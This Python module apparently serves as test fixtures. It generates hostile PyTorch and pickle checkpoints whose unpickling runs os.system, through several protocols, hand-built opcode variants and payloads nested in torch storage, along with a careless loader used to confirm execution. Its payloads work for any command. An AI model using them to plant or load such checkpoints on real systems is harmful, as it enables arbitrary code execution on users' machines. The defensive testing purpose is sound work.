"""Checkpoints whose pickle runs a command when it is read without protection."""

from __future__ import annotations

import io
import os
import pickle
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch


class Command:
    """Runs a command when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


class Nested:
    """Hides a pickle in the bytes of a tensor's storage."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def __reduce__(self) -> tuple[Any, ...]:
        return torch.storage._load_from_bytes, (self.data,)


def _text(command: str) -> bytes:
    return b"S'" + command.encode() + b"'\n"


_SYSTEM = b"cos\nsystem\n"

# Name -> a pickle that runs a command. No pickler writes those named after opcodes.
PICKLES: dict[str, Callable[[str], bytes]] = {
    **{
        f"protocol {protocol}": lambda command, protocol=protocol: pickle.dumps(
            {"model": {"a.b": Command(command)}}, protocol=protocol
        )
        for protocol in range(6)
    },
    "REDUCE": lambda command: _SYSTEM + b"(" + _text(command) + b"tR.",
    "INST": lambda command: b"(" + _text(command) + b"ios\nsystem\n.",
    "OBJ": lambda command: b"(" + _SYSTEM + _text(command) + b"o.",
    # bytes(map(os.system, [command])), both made by __new__.
    "NEWOBJ": lambda command: (
        (b"\x80\x02cbuiltins\nbytes\n(cbuiltins\nmap\n(" + _SYSTEM)
        + (b"(" + _text(command) + b"lt\x81t\x81.")
    ),
    # An OrderedDict is given a __setstate__ of its own, then a state.
    "BUILD": lambda command: (
        (b"ccollections\nOrderedDict\n(tR}S'__setstate__'\n" + _SYSTEM)
        + (b"sb" + _text(command) + b"b.")
    ),
    "nested": lambda command: pickle.dumps({"model": {"a.b": Nested(legacy(command, "REDUCE"))}}),
    "nested zip": lambda command: pickle.dumps({"model": {"a.b": Nested(archive(command))}}),
    "nested twice": lambda command: pickle.dumps(
        {"model": {"a.b": Nested(legacy(command, "nested"))}}
    ),
}


def archive(command: str, how: str = "REDUCE") -> bytes:
    """A file of torch.save in the current format."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as records:
        records.writestr("archive/data.pkl", PICKLES[how](command))
        records.writestr("archive/version", "3\n")
    return file.getvalue()


def legacy(command: str, how: str = "REDUCE") -> bytes:
    """A file of torch.save in the legacy format."""
    parts = [
        pickle.dumps(torch.serialization.MAGIC_NUMBER, protocol=2),
        pickle.dumps(torch.serialization.PROTOCOL_VERSION, protocol=2),
        pickle.dumps({"little_endian": True}, protocol=2),
        PICKLES[how](command),
        pickle.dumps([], protocol=2),
    ]
    return b"".join(parts)


# File name -> command, how -> its content.
FILES: dict[str, Callable[[str, str], bytes]] = {
    "model.pkl": lambda command, how: PICKLES[how](command),
    "model.pth": archive,
    "legacy.pth": legacy,
}


def write(folder: Path, name: str, how: str = "REDUCE") -> tuple[Path, Path]:
    """Write a hostile checkpoint; returns it and the file that exists once its command has run."""
    trace = folder / "the-command-ran"
    path = folder / name
    path.write_bytes(FILES[name](f"touch {trace}", how))
    return path, trace


def read_carelessly(path: Path) -> None:
    """Read a checkpoint without any protection."""
    with path.open("rb") as file:
        if path.suffix == ".pkl":
            pickle.load(file)
        else:
            torch.load(file, weights_only=False)
